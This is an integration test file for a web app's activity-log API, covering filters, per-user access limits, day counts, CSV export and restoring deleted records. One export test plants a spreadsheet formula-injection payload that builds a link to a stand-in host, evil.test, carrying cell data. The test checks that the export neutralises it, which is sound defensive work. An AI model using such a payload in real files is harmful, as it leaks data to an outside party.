import { parse } from 'csv-parse/sync';
import { type RecordKind, recordKindList, recordKinds } from 'shared-lib/records';
import { runAs } from '../../test/fresh-database';
import { type RecordClient, recordClient } from '../../test/record-client';
import { type DemoName, type ServedDemo, serveDemo } from '../../test/serve-backend';

let served: ServedDemo;
beforeAll(async () => {
  served = await serveDemo();
  await served.as('editor@demo.test').post('/api/circular/add', { topic: 'Own', link: 'https://x.test' });
  await served.as('admin@demo.test').post('/api/circular/add', { topic: 'Theirs', link: 'https://x.test' });
  await served.post('/api/login', { username: 'editor@demo.test', password: 'wrong' });
});
afterAll(() => served?.close());

type Line = {
  id: string;
  at: string;
  user: string;
  kind: string;
  name: string;
  action: string;
  ip: string;
  agent: string;
  view: { kind: string; id: number } | null;
};

const rows = <Row extends object>(sql: string) => runAs<Row>(served.database.admin, sql);

const list = (body: object = {}, username: DemoName = 'admin@demo.test') =>
  served.as(username).post('/api/activity-log/list', body);

const linesOf = async (body: object, username?: DemoName) => (await list(body, username)).body.data as Line[];
const totalOf = async (body: object, username?: DemoName) => (await list(body, username)).body.totalLength;

async function counted(condition: string): Promise<number | undefined> {
  const [row] = await rows<{ count: number }>(
    `select count(*)::integer as count from journal where org_id = 1 and ${condition}`,
  );
  return row?.count;
}

const editorId = "(select id from account where username = 'editor@demo.test')";
const ofEditor = `(actor_id = ${editorId} or (chain = 'activity' and kind = 'account' and record_id = ${editorId}))`;
const doors = "action in ('Signed in', 'Sign-in failed', 'Code refused', 'Locked out', 'Signed out')";

describe('activity-log/list', () => {
  it.each([
    [{ kind: 'circular' }, "kind = 'circular'"],
    [{ action: 'Published' }, "action = 'Published'"],
    [{ kind: 'law', action: 'Created' }, "kind = 'law' and action = 'Created'"],
    [{ user: 'EDITOR@' }, ofEditor],
    [{ user: 'not signed' }, "actor_name = 'nobody'"],
    [{ user: 'nobody' }, 'false'],
    [{ about: 'sign-ins' }, doors],
    [{ about: 'sign-ins', user: 'EDITOR@' }, `${ofEditor} and ${doors}`],
    [{ user: '%' }, 'false'],
    [{ kind: 'unicorn' }, 'false'],
    [{ to: '2000-01-01' }, 'false'],
    [{ from: '2000-01-01' }, 'true'],
    [{ kind: '', user: ' ', action: '', from: '', userId: '' }, 'true'],
  ])('filtered by %j returns the matching entries and the exact total', async (filter, condition) => {
    const { body } = await list({ ...filter, pageSize: 200 });
    const expected = await counted(condition);
    expect(body.totalLength).toBe(expected);
    expect(body.data).toHaveLength(Math.min(expected ?? 0, 200));
  });

  it("can be filtered by one user's id alone", async () => {
    const [editor] = await rows<{ id: number }>(`select ${editorId} as id`);
    expect(await totalOf({ userId: editor?.id })).toBe(await counted(ofEditor));
    expect((await list({ userId: 'x' })).status).toBe(422);
  });

  it('can be filtered by whole days and by exact times', async () => {
    const [{ day, at } = { day: '', at: '' }] = await rows<{ day: string; at: string }>(
      `select to_char(at at time zone 'UTC', 'YYYY-MM-DD') as day,
         to_char(at at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') as at
       from journal where org_id = 1 order by at limit 1`,
    );
    expect(await totalOf({ from: day, to: day })).toBe(await counted(`(at at time zone 'UTC')::date = '${day}'`));
    expect(await totalOf({ from: at, to: at })).toBe(await counted(`at = '${at}'`));
  });

  it.each([
    { from: '2026-02-30' },
    { to: 'yesterday' },
    { from: '04/03/2026' },
    { about: 'all' },
    { kind: 5 },
    { page: 0 },
  ])('refuses %j', async (body) => {
    expect((await list(body)).status).toBe(422);
  });

  it('shows for a failed sign-in that nobody was signed in, and the account that was tried', async () => {
    const [line] = await linesOf({ action: 'Sign-in failed' });
    expect(line).toMatchObject({ user: 'editor@demo.test (not signed in)', name: 'editor@demo.test' });
    const found = await linesOf({ user: line?.user });
    expect(new Set(found.map(({ action }) => action))).toEqual(new Set(['Sign-in failed']));
  });

  it('shows IP address and user agent', async () => {
    const [line] = await linesOf({ kind: 'circular', user: 'admin@' });
    expect(line).toMatchObject({ name: 'Theirs', ip: '127.0.0.1', agent: 'node' });
  });

  it('links to the record of the entry, or to the law of a part, as long as it exists', async () => {
    const views = async (kind: string) => (await linesOf({ kind })).map(({ view }) => view?.kind);
    expect(new Set(await views('law'))).toEqual(new Set(['law']));
    expect(new Set(await views('other_compliance'))).toEqual(new Set(['other-compliance']));
    expect(new Set(await views('question'))).toEqual(new Set(['law']));
    expect(new Set(await views('account'))).toEqual(new Set([undefined]));
    const [{ view } = { view: null }] = await linesOf({ kind: 'license' });
    const mark = (value: string) =>
      rows(`update record set deleted_at = ${value} where org_id = 1 and kind = 'license' and id = ${view?.id}`);
    await mark('now()');
    const [deletion] = await linesOf({ kind: 'license' });
    expect(deletion?.view).toBeNull();
    await mark('null');
  });
});

describe('activity-log/list for a user who is no administrator', () => {
  it('contains only what they did and what was done to them, whatever the filter', async () => {
    const own = await counted(ofEditor);
    expect(await totalOf({}, 'editor@demo.test')).toBe(own);
    expect(await totalOf({ user: 'admin@' }, 'viewer@demo.test')).toBe(0);
    expect(await totalOf({ kind: 'circular' }, 'editor@demo.test')).toBe(
      await counted(`kind = 'circular' and actor_id = ${editorId}`),
    );
  });

  it('shows origins of the user and of sign-in attempts on their account, but of nobody else', async () => {
    const admin = served.as('admin@demo.test');
    const { body } = await admin.post('/api/users/list', {});
    const editor = (body.data as { id: number; version: number; username: string }[]).find(
      ({ username }) => username === 'editor@demo.test',
    );
    await admin.post('/api/users/update', {
      id: editor?.id,
      version: editor?.version,
      role: 'no',
      twofactorOn: false,
    });
    await admin.post('/api/module-access/update', {
      id: editor?.id,
      version: editor?.version,
      statusInfo: 'Draft',
      serchInfo: 'Yes',
      gridInfo: 'Yes',
    });
    const lines = await linesOf({ pageSize: 200 }, 'editor@demo.test');
    const places = (user: string) => new Set(lines.filter((line) => line.user === user).map(({ ip }) => ip));
    expect(places('editor@demo.test (not signed in)')).toEqual(new Set(['127.0.0.1']));
    expect(places('admin@demo.test')).toEqual(new Set(['']));
    expect(lines.find(({ name }) => name === 'Own')?.ip).toBe('127.0.0.1');
  });
});

describe('activity-log/actions', () => {
  const actionsOf = async (username: DemoName) =>
    (await served.as(username).post('/api/activity-log/actions', {})).body.data;
  const among = async (condition: string) => {
    const sql = `select distinct action from journal where org_id = 1 and ${condition} order by 1`;
    return (await rows<{ action: string }>(sql)).map(({ action }) => action);
  };

  it('returns to an administrator each action of the organisation once', async () => {
    expect(await actionsOf('admin@demo.test')).toEqual(await among('true'));
  });

  it('returns to other users the actions of their own part of the log', async () => {
    await served.post('/api/login', { username: 'viewer@demo.test', password: 'wrong' });
    expect(await actionsOf('viewer@demo.test')).toEqual(['Sign-in failed']);
    expect(await actionsOf('editor@demo.test')).toEqual(await among(ofEditor));
  });
});

describe('activity-log/days', () => {
  const daysOf = async (body: object, username: DemoName = 'admin@demo.test') =>
    (await served.as(username).post('/api/activity-log/days', body)).body.data;
  const starts = ['2020-01-01T18:30:00.000Z', '2026-01-01T18:30:00.000Z', '2100-01-01T00:00:00.000Z'];
  const countBetween = (condition: string) =>
    Promise.all([
      counted(`${condition} and at >= '${starts[0]}' and at < '${starts[1]}'`),
      counted(`${condition} and at >= '${starts[1]}' and at < '${starts[2]}'`),
    ]);

  it.each([
    [{}, 'true'],
    [{ kind: 'circular' }, "kind = 'circular'"],
    [{ user: 'EDITOR@', action: 'Created' }, `${ofEditor} and action = 'Created'`],
    [{ from: '2026-06-01' }, "at >= '2026-06-01T00:00:00Z'"],
  ])('filtered by %j counts each of the days that were sent', async (filter, condition) => {
    expect(await daysOf({ ...filter, starts })).toEqual(await countBetween(condition));
  });

  it('counts for other users only their own part of the log', async () => {
    expect(await daysOf({ starts }, 'editor@demo.test')).toEqual(await countBetween(ofEditor));
    expect(await daysOf({ starts, user: 'admin@' }, 'viewer@demo.test')).toEqual([0, 0]);
  });

  it('counts an instant at a boundary once, in the day that begins', async () => {
    const [{ at } = { at: '' }] = await rows<{ at: string }>(
      `select to_char(at at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as at
       from journal where org_id = 1 order by at limit 1`,
    );
    const total = await counted('true');
    expect(await daysOf({ starts: ['2000-01-01T00:00:00Z', at, '2100-01-01T00:00:00Z'] })).toEqual([0, total]);
  });

  it('without days counts nothing', async () => {
    expect(await daysOf({})).toEqual([]);
  });

  it.each([
    { starts: ['2026-01-02T00:00:00Z'] },
    { starts: ['2026-01-02T00:00:00Z', '2026-01-02T00:00:00Z'] },
    { starts: ['2026-01-02T00:00:00Z', '2026-01-01T00:00:00Z'] },
    { starts: ['yesterday', 'today'] },
    { starts: Array.from({ length: 40 }, (_, day) => new Date(day * 86_400_000).toISOString()) },
  ])('refuses %j', async (body) => {
    expect((await served.as('admin@demo.test').post('/api/activity-log/days', body)).status).toBe(422);
  });
});

describe('log export:', () => {
  let served: ServedDemo;
  beforeAll(async () => {
    served = await serveDemo({ LIMIT_FACTOR: '2' });
  });
  afterAll(() => served.close());

  type Row = Record<string, string>;

  function take(username: DemoName, filter: Record<string, string> = {}): Promise<Response> {
    const { token } = served.as(username);
    const query = new URLSearchParams({ ...filter, accessusername: username });
    return fetch(`${served.address}/api/activity-log/export?${query}`, { headers: { authorization: token } });
  }

  async function rowsOf(response: Response): Promise<Row[]> {
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    return parse(bytes, { bom: true, columns: true });
  }

  const entries = (username: DemoName, body: object) =>
    served.as(username).post('/api/activity-log/list', { ...body, pageSize: 200 });

  describe('activity-log/export', () => {
    it('contains all pages of the log in their order', async () => {
      const { body } = await entries('admin@demo.test', {});
      const response = await take('admin@demo.test');
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe('attachment; filename="system-logs.csv"');
      const ids = (await rowsOf(response)).map(({ Entry }) => Entry);
      // The export's own entry comes first.
      expect(ids).toHaveLength(Number(body.totalLength) + 1);
      expect(new Set(ids).size).toBe(ids.length);
      expect(ids.slice(1, 201)).toEqual((body.data as { id: string }[]).map(({ id }) => id));
      expect(ids.length).toBeGreaterThan(1_000);
    });

    it('uses the same filters as the list', async () => {
      const rows = await rowsOf(await take('admin@demo.test', { kind: 'law', action: 'Published' }));
      const { body } = await entries('admin@demo.test', { kind: 'law', action: 'Published' });
      expect(rows.map(({ Entry }) => Entry)).toEqual((body.data as { id: string }[]).map(({ id }) => id));
      expect(new Set(rows.map(({ Kind, Action }) => `${Kind} ${Action}`))).toEqual(new Set(['Law Published']));
    });

    it('neutralises a formula in a name', async () => {
      const topic = '=HYPERLINK("http://evil.test?"&A1,"see")';
      await served.as('editor@demo.test').post('/api/circular/add', { topic, link: 'https://x.test' });
      const [row] = await rowsOf(await take('admin@demo.test', { kind: 'circular', user: 'editor' }));
      expect(row).toMatchObject({ Name: `'${topic}`, 'IP address': '127.0.0.1', Browser: 'node' });
    });

    it('contains for a user who is no administrator only their own part', async () => {
      const rows = await rowsOf(await take('viewer@demo.test', { user: 'admin' }));
      expect(rows).toEqual([]);
      const own = await rowsOf(await take('viewer@demo.test'));
      expect(new Set(own.map(({ User }) => User))).toEqual(new Set(['viewer@demo.test']));
    });

    it('contains nothing of another organisation', async () => {
      const rows = await rowsOf(await take('admin@other.test'));
      expect(rows.length).toBeGreaterThan(0);
      expect(rows.filter(({ User }) => User?.endsWith('@demo.test'))).toEqual([]);
    });

    it('needs the token: a link with only the cookie is refused', async () => {
      const response = await fetch(`${served.address}/api/activity-log/export`);
      expect(response.status).toBe(401);
    });

    it.each<Record<string, string>>([
      { from: 'yesterday' },
      { userId: 'x' },
      { user: 'x'.repeat(400) },
      { usr: 'editor' },
    ])('refuses %j', async (filter) => {
      const response = await take('viewer@demo.test', filter);
      expect([response.status, response.headers.get('content-type')]).toEqual([422, 'application/json; charset=utf-8']);
    });

    it('has an entry in the log, and is limited to ten in ten minutes at twice the usual limits', async () => {
      const statuses: number[] = [];
      for (let nth = 0; nth < 10; nth += 1) {
        const response = await take('admin@other.test');
        await response.text();
        statuses.push(response.status);
      }
      expect(statuses).toEqual([...Array.from({ length: 9 }, () => 200), 429]);
      const entries = await runAs(
        served.database.admin,
        "select 1 from journal where org_id = 2 and action = 'Log exported' and ip is not null",
      );
      expect(entries).toHaveLength(10);
    });
  });
});

describe('activity log', () => {
  let served: ServedDemo;
  beforeAll(async () => {
    served = await serveDemo();
  });
  afterAll(() => served?.close());

  type Changes = Record<string, unknown>;
  type Line = { id: string; changes: Changes };

  /** Returns the values of a field type in all changes to licenses, before and after. */
  function changesOf(lines: readonly { changes: Changes }[], type: 'law' | 'choices'): unknown[] {
    const names = Object.entries(recordKinds.license.fields).flatMap(([name, field]) =>
      field.type === type ? [name] : [],
    );
    return lines.flatMap(({ changes }) => names.flatMap((name) => changes[name] ?? [])).flat(2);
  }

  it('shows law codes and option names instead of ids', async () => {
    const entries = await runAs<{ changes: Changes }>(
      served.database.admin,
      `select changes from journal where org_id = 1 and kind = 'license' order by at desc, seq desc limit 200`,
    );
    const isId = (value: unknown) => typeof value === 'number' || /^\d+$/.test(String(value));
    expect(changesOf(entries, 'law').some(isId)).toBe(true);
    expect(changesOf(entries, 'choices').some(isId)).toBe(true);
    const { body } = await served
      .as('admin@demo.test')
      .post('/api/activity-log/list', { kind: 'license', pageSize: 200 });
    const lines = body.data as Line[];
    const [laws, options] = [changesOf(lines, 'law'), changesOf(lines, 'choices')];
    expect(laws.some((code) => /^[A-Z]{2}[\w-]+$/.test(String(code)))).toBe(true);
    expect([...laws, ...options].filter(isId)).toEqual([]);
    expect(options.some((name) => typeof name === 'string' && name.length > 3)).toBe(true);
  });
});

describe('restore from the log:', () => {
  type Line = { kind: string; recordId: number; restorable: { kind: string; id: number } | null };
  const editor = 'editor@demo.test';
  const admin = 'admin@demo.test';
  const { law: lawKind, license } = recordKinds;
  let served: ServedDemo;
  let client: RecordClient;
  let law: number;
  beforeAll(async () => {
    served = await serveDemo();
    client = recordClient(served);
    law = await client.addLaw({ Central: 'State' });
  });
  afterAll(() => served.close());

  const stored = ({ name }: RecordKind) => name.replace('-', '_');

  const remove = (kind: RecordKind, id: number, by: DemoName = editor) =>
    client.post(by, kind.calls.remove, { id, reason: 'Entered twice' });

  const restore = (kind: RecordKind, id: number) => client.post(editor, kind.calls.restore, { id });

  async function deleted(kind: RecordKind = license): Promise<number> {
    const id = await client.draft(kind, law);
    await remove(kind, id);
    return id;
  }

  const linesOf = async (body: object, username: DemoName) =>
    (await served.as(username).post('/api/activity-log/list', { pageSize: 200, ...body })).body.data as Line[];

  /** Returns what a reader can restore from the log entries of a record's deletions, newest first. */
  async function offered(id: number, { kind = license, to = editor }: { kind?: RecordKind; to?: DemoName } = {}) {
    const lines = await linesOf({ kind: stored(kind), action: 'Deleted' }, to);
    return lines.flatMap(({ recordId, restorable }) => (recordId === id ? [restorable] : []));
  }

  const setDeleted = (id: number, when: string) =>
    client.rows(`update record set deleted_at = ${when} where org_id = 1 and kind = 'license' and id = ${id}`);

  describe.each(recordKindList)('a deleted $name', (kind) => {
    it('can be restored from the log by who deleted it and by administrators, until it is restored', async () => {
      const id = await deleted(kind);
      const offer = { kind: kind.name, id };
      expect(await offered(id, { kind })).toEqual([offer]);
      expect(await offered(id, { kind, to: admin })).toEqual([offer]);
      expect((await restore(kind, id)).body.success).toBe(1);
      expect(await offered(id, { kind })).toEqual([null]);
      expect(await offered(id, { kind, to: admin })).toEqual([null]);
    });
  });

  test('only the newest deletion of a record can be undone from the log', async () => {
    const id = await deleted();
    await restore(license, id);
    await remove(license, id, admin);
    expect(await offered(id, { to: admin })).toEqual([{ kind: 'license', id }, null]);
    expect(await offered(id)).toEqual([null]);
  });

  test('each of several records that were deleted at once can be restored', async () => {
    const ids = [await client.draft(license, law), await client.draft(license, law)];
    await client.post(editor, license.calls.removeMany, { rows: ids.map((id) => ({ id })), reason: 'Both' });
    for (const id of ids) expect(await offered(id)).toEqual([{ kind: 'license', id }]);
  });

  test.each([
    ["now() - interval '29 days'", true],
    ["now() - interval '31 days'", false],
  ])('a record deleted at %s is offered and can be restored: %p', async (when, is) => {
    const id = await deleted();
    await setDeleted(id, when);
    expect(await offered(id)).toEqual([is ? { kind: 'license', id } : null]);
    expect((await restore(license, id)).body.success).toBe(is ? 1 : 0);
  });

  test('other actions and deletions offer no restore', async () => {
    await deleted(lawKind);
    await served.as(editor).post('/api/circular/add', { topic: 'Own', link: 'https://x.test' });
    const [{ recordId: circular } = { recordId: 0 }] = await linesOf({ kind: 'circular' }, editor);
    await served.as(editor).post('/api/circular/delete', { id: circular, reason: 'Gone' });
    const lines = (await linesOf({}, admin)) as (Line & { action: string })[];
    const offering = lines.filter(({ restorable }) => restorable);
    expect(new Set(offering.map(({ action }) => action))).toEqual(new Set(['Deleted']));
    expect(offering.map(({ kind }) => kind)).not.toContain('circular');
    expect(lines.filter(({ kind, action }) => kind === 'circular' && action === 'Deleted')).toHaveLength(1);
  });

  test('another organisation is offered no restore', async () => {
    await deleted();
    const lines = await linesOf({}, 'admin@other.test');
    expect(lines.filter(({ restorable }) => restorable)).toEqual([]);
  });

  test('a user who has lost Edit access is offered no restore', async () => {
    const id = await deleted();
    const setEdit = (may: boolean) => client.rows(`update account set may_edit = ${may} where username = '${editor}'`);
    await setEdit(false);
    expect(await offered(id)).toEqual([null]);
    await setEdit(true);
    expect(await offered(id)).toEqual([{ kind: 'license', id }]);
  });
});
